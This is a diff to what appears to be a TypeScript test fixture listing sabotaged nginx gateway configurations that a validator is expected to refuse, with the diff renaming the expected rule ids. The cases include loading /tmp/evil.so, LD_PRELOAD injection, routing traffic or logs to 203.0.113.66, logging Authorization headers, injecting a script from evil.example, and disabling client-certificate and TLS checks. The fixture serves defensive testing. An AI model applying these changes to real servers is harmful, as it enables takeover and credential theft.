@@ -76,7 +76,7 @@ export const gateway: SabotagesOfKind = [
   ),
   refused(
     'async calls of a function that has no queue',
-    'verify/gateway-otherwise',
+    'verify/queue-missing',
     location(
       '    location ^~ /async-function/export-ledger/ {\n        limit_except POST {\n            deny all;\n        }\n        proxy_pass http://openfaas_gateway;\n    }\n',
     ),
@@ -86,45 +86,45 @@ export const gateway: SabotagesOfKind = [
     find: '    server 10.43.0.80:8080 max_fails=0;',
     put: '    server 10.43.0.80:8082 max_fails=0;',
   }),
-  refused('some calls go to a machine of somebody', 'verify/gateway-otherwise', {
+  refused('some calls go to a machine of somebody', 'verify/directive-not-ours', {
     file,
     find: '    server 10.43.0.80:8080 max_fails=0;\n',
     put: '    server 10.43.0.80:8080 max_fails=0;\n    server 203.0.113.66:8080 backup;\n',
   }),
   refused('a copy of each call to somebody', 'verify/schema', inServer('    mirror /copy;\n')),
-  refused('a module is loaded', 'verify/gateway-otherwise', {
+  refused('a module is loaded', 'verify/directive-not-ours', {
     file: main,
     find: 'events {',
     put: 'load_module /tmp/evil.so;\nevents {',
   }),
-  refused('more of nginx from another file', 'verify/gateway-otherwise', {
+  refused('more of nginx from another file', 'verify/directive-not-ours', {
     file: main,
     find: '    include /etc/nginx/conf.d/*.conf;',
     put: '    include /tmp/*.conf;\n    include /etc/nginx/conf.d/*.conf;',
   }),
   refused(
     'more of nginx from a file in a server',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     inServer('    include /tmp/*.conf;\n'),
   ),
-  refused('nginx runs as root', 'verify/gateway-otherwise', {
+  refused('nginx runs as root', 'verify/directive-not-ours', {
     file: main,
     find: 'user www-data;',
     put: 'user root;',
   }),
-  refused('nginx works in another directory', 'verify/gateway-otherwise', {
+  refused('nginx works in another directory', 'verify/directive-not-ours', {
     file: main,
     find: 'pid /run',
     put: 'working_directory /tmp;\npid /run',
   }),
-  refused('variables of the environment for the workers', 'verify/gateway-otherwise', {
+  refused('variables of the environment for the workers', 'verify/directive-not-ours', {
     file: main,
     find: 'pid /run',
     put: 'env LD_PRELOAD=/tmp/evil.so;\npid /run',
   }),
   refused(
     'files of the disk',
-    'verify/gateway-otherwise',
+    'verify/files-served',
     location('    location ^~ /files/ {\n        root /;\n    }\n'),
   ),
   refused('a list of what is in a directory', 'verify/schema', {
@@ -132,7 +132,7 @@ export const gateway: SabotagesOfKind = [
     find: '        root /var/www/letsencrypt;\n',
     put: '        root /var/www/letsencrypt;\n        autoindex on;\n',
   }),
-  refused('challenges are read from the root', 'verify/gateway-otherwise', {
+  refused('challenges are read from the root', 'verify/directive-not-ours', {
     file,
     find: '        root /var/www/letsencrypt;\n',
     put: '        root /;\n',
@@ -144,46 +144,46 @@ export const gateway: SabotagesOfKind = [
   }),
   refused(
     "nginx's counters for all",
-    'verify/schema',
+    'verify/status-page-open',
     location('    location = /status {\n        stub_status;\n    }\n'),
   ),
-  refused('a log of passwords', 'verify/gateway-otherwise', {
+  refused('a log of passwords', 'verify/log-holds-secret', {
     file,
     find: '"agent":"$openfaas_log_agent"',
     put: '"agent":"$openfaas_log_agent","auth":"$http_authorization"',
   }),
-  refused('a log to somebody', 'verify/gateway-otherwise', {
+  refused('a log to somebody', 'verify/directive-not-ours', {
     file,
     find: '    error_log syslog:server=unix:/run/systemd/journal/dev-log,tag=nginx,nohostname warn;\n',
     put: '    error_log syslog:server=203.0.113.66 warn;\n',
   }),
-  refused('a log where all may read', 'verify/gateway-otherwise', {
+  refused('a log where all may read', 'verify/directive-not-ours', {
     file,
     find: '    access_log /var/log/nginx/openfaas.access.log openfaas_json',
     put: '    access_log /var/www/letsencrypt/log openfaas_json',
   }),
-  refused('a log of everything', 'verify/gateway-otherwise', {
+  refused('a log of everything', 'verify/directive-not-ours', {
     file,
     find: 'tag=nginx,nohostname warn;',
     put: 'tag=nginx,nohostname debug;',
   }),
-  refused('no limit of rate', 'verify/schema', {
+  refused('no limit of rate', 'verify/not-counted', {
     file,
     every: '    limit_req zone=openfaas_req burst=20 nodelay;\n',
     put: '',
   }),
-  refused('no limit of connections', 'verify/schema', {
+  refused('no limit of connections', 'verify/not-counted', {
     file,
     every: '    limit_conn openfaas_conn 79;\n',
     put: '',
   }),
-  refused('limits are only tried', 'verify/gateway-otherwise', inServer('    limit_req_dry_run on;\n')),
-  refused('one key of limits for none', 'verify/gateway-otherwise', {
+  refused('limits are only tried', 'verify/directive-not-ours', inServer('    limit_req_dry_run on;\n')),
+  refused('one key of limits for none', 'verify/map-spares-clients', {
     file,
     find: '    default $binary_remote_addr;\n',
     put: '    default "";\n',
   }),
-  refused('whoever has a header is not limited', 'verify/gateway-otherwise', {
+  refused('whoever has a header is not limited', 'verify/map-spares-clients', {
     file,
     find: 'map $binary_remote_addr $openfaas_client {\n    default $binary_remote_addr;\n',
     put: 'map $http_x_free $openfaas_client {\n    default $binary_remote_addr;\n    yes "";\n',
@@ -193,7 +193,7 @@ export const gateway: SabotagesOfKind = [
     'verify/not-as-meant',
     inHttp('set_real_ip_from 0.0.0.0/1;\nset_real_ip_from 128.0.0.0/1;\nreal_ip_header X-Forwarded-For;\n'),
   ),
-  refused('a header of the client goes on as nginx vouches', 'verify/gateway-otherwise', {
+  refused('a header of the client goes on as nginx vouches', 'verify/header-not-vouched', {
     file,
     find: '    proxy_set_header X-Real-IP $remote_addr;',
     put: '    proxy_set_header X-Real-IP $http_x_real_ip;',
@@ -203,44 +203,44 @@ export const gateway: SabotagesOfKind = [
     find: 'tag=nginx,nohostname warn;',
     put: 'tag=nginx,nohostname warn;\n    ssl_protocols TLSv1 TLSv1.1 TLSv1.2;',
   }),
-  refused('old TLS for all', 'verify/schema', {
+  refused('old TLS for all', 'verify/tls-weak', {
     file,
     find: '    ssl_protocols TLSv1.2 TLSv1.3;\n    ssl_ciphers',
     put: '    ssl_protocols TLSv1 TLSv1.2 TLSv1.3;\n    ssl_ciphers',
   }),
-  refused('ciphers without keys', 'verify/gateway-otherwise', {
+  refused('ciphers without keys', 'verify/tls-weak', {
     file,
     find: 'ssl_ciphers ECDHE-ECDSA-AES128-GCM-SHA256:',
     put: 'ssl_ciphers NULL:ECDHE-ECDSA-AES128-GCM-SHA256:',
   }),
   refused(
     'keys of sessions from a file',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     inServer('    ssl_session_ticket_key /var/www/letsencrypt/key;\n'),
   ),
-  refused('port 80 answers calls', 'verify/schema', {
+  refused('port 80 answers calls', 'verify/unencrypted-answer', {
     file,
     find: '        return 308 https://functions.your-domain.no$request_uri;\n',
     put: '        proxy_pass http://openfaas_gateway;\n',
   }),
-  refused('port 80 leads elsewhere', 'verify/gateway-otherwise', {
+  refused('port 80 leads elsewhere', 'verify/unencrypted-answer', {
     file,
     find: 'return 308 https://functions.your-domain.no$request_uri;',
     put: 'return 308 https://evil.example$request_uri;',
   }),
-  refused('unknown names are answered', 'verify/schema', {
+  refused('unknown names are answered', 'verify/stranger-answered', {
     file,
     find: '        try_files "" =444;\n',
     put: '        proxy_pass http://openfaas_gateway;\n',
   }),
-  refused('a port that no firewall knows', 'verify/gateway-otherwise', {
+  refused('a port that no firewall knows', 'verify/directive-not-ours', {
     file,
     find: '    listen 443 ssl http2;\n    listen [::]:443 ssl http2;\n    server_name functions',
     put: '    listen 443 ssl http2;\n    listen [::]:443 ssl http2;\n    listen 8443 ssl;\n    listen [::]:8443 ssl;\n    server_name functions',
   }),
   refused(
     'answers are kept for others',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     inHttp('proxy_cache_path /tmp/cache keys_zone=c:1m;\n'),
   ),
   refused(
@@ -248,59 +248,59 @@ export const gateway: SabotagesOfKind = [
     'verify/schema',
     inServer("    sub_filter '</body>' '<script src=//evil.example></script></body>';\n"),
   ),
-  refused('answers say a header that opens them to all', 'verify/schema', {
+  refused('answers say a header that opens them to all', 'verify/directive-not-ours', {
     file,
     find: '    add_header Strict-Transport-Security max-age=63072000 always;\n\n',
     put: '    add_header Strict-Transport-Security max-age=63072000 always;\n    add_header Access-Control-Allow-Origin * always;\n\n',
   }),
-  refused('bodies of any size', 'verify/gateway-otherwise', {
+  refused('bodies of any size', 'verify/directive-not-ours', {
     file,
     find: 'client_max_body_size 50m;',
     put: 'client_max_body_size 0;',
   }),
   refused(
     'headers of the client with any character',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     inServer('    ignore_invalid_headers off;\n'),
   ),
   refused(
     'headers with underscores',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     inServer('    underscores_in_headers on;\n'),
   ),
-  refused('slashes stay as they are', 'verify/gateway-otherwise', inServer('    merge_slashes off;\n')),
+  refused('slashes stay as they are', 'verify/directive-not-ours', inServer('    merge_slashes off;\n')),
   refused(
     "an answer's own redirect inside",
-    'verify/gateway-otherwise',
+    'verify/error-as-success',
     inServer('    proxy_intercept_errors on;\n    error_page 404 =200 /function/export-ledger;\n'),
   ),
   refused(
     'whoever has no certificate is let in',
-    'verify/gateway-otherwise',
+    'verify/map-spares-clients',
     { file, find: '    default certificate;\n', put: '    default off;\n' },
     full,
   ),
   refused(
     'a failed certificate is let in',
-    'verify/gateway-otherwise',
+    'verify/map-spares-clients',
     { file, find: '    SUCCESS off;\n', put: '    SUCCESS off;\n    "~FAILED" off;\n' },
     full,
   ),
   refused(
     'certificates of clients are not asked for',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     { file, find: '    ssl_verify_client optional;\n', put: '    ssl_verify_client off;\n' },
     full,
   ),
   refused(
     'certificates of clients of any authority',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     { file, find: '    ssl_verify_client optional;\n', put: '    ssl_verify_client optional_no_ca;\n' },
     full,
   ),
   refused(
     'passwords are for those who say so',
-    'verify/gateway-otherwise',
+    'verify/map-spares-clients',
     { file, find: '        auth_basic pay;\n', put: '        auth_basic $http_x_realm;\n' },
     full,
   ),
@@ -316,7 +316,7 @@ export const gateway: SabotagesOfKind = [
   ),
   refused(
     'either of network and password is enough',
-    'verify/gateway-otherwise',
+    'verify/directive-not-ours',
     { file, find: '        auth_basic pay;\n', put: '        satisfy any;\n        auth_basic pay;\n' },
     full,
   ),
@@ -346,7 +346,7 @@ export const gateway: SabotagesOfKind = [
   ),
   refused(
     'any page may read answers',
-    'verify/gateway-otherwise',
+    'verify/map-spares-clients',
     {
       file,
       find: 'map $http_origin $openfaas_origin_pay {\n    default "";\n',
@@ -356,7 +356,7 @@ export const gateway: SabotagesOfKind = [
   ),
   refused(
     'whoever says so is exempt from limits',
-    'verify/gateway-otherwise',
+    'verify/map-spares-clients',
     {
       file,
       find: 'geo $openfaas_exempt {\n    default 0;\n',
